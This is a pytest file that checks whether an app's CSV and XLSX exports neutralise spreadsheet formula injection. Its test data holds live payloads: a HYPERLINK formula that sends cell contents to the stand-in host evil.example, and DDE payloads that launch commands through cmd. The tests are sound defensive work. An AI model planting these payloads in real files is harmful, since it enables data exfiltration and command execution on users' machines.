"""Exported text never runs as a formula: cells starting with = + - @ tab or CR stay text."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from app.services.exports import Sheet, to_csv, to_xlsx

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _sheet() -> Sheet:
    return Sheet("visits", ["Comment", "Score"], [[text, 75.0] for text in ATTACKS])


@pytest.mark.parametrize("index", range(len(ATTACKS)))
def test_a_csv_cell_that_would_start_a_formula_is_written_as_text(index):
    rows = list(csv.reader(io.StringIO(to_csv(_sheet()).lstrip("\ufeff"))))
    assert rows[1 + index][0] == "'" + ATTACKS[index]
    assert rows[1 + index][1] == "75.0"  # figures are untouched


def test_an_xlsx_cell_is_never_a_formula_and_keeps_the_text():
    book = load_workbook(io.BytesIO(to_xlsx([_sheet()])))
    sheet = book["visits"]
    cells = [sheet.cell(row=2 + i, column=1) for i in range(len(ATTACKS))]
    assert [c.data_type for c in cells] == ["s"] * len(ATTACKS)
    # shown as typed, nothing runs (XML reads a bare CR back as a line feed)
    assert [c.value for c in cells] == [a.replace("\r", "\n") for a in ATTACKS]
    assert sheet.cell(row=2, column=2).value == 75.0


def test_a_header_from_checklist_text_is_inert_too():
    sheet = Sheet("visits", ["=cmd()"], [])
    assert to_csv(sheet).lstrip("\ufeff").splitlines()[0] == "'=cmd()"
    assert load_workbook(io.BytesIO(to_xlsx([sheet])))["visits"]["A1"].data_type == "s"
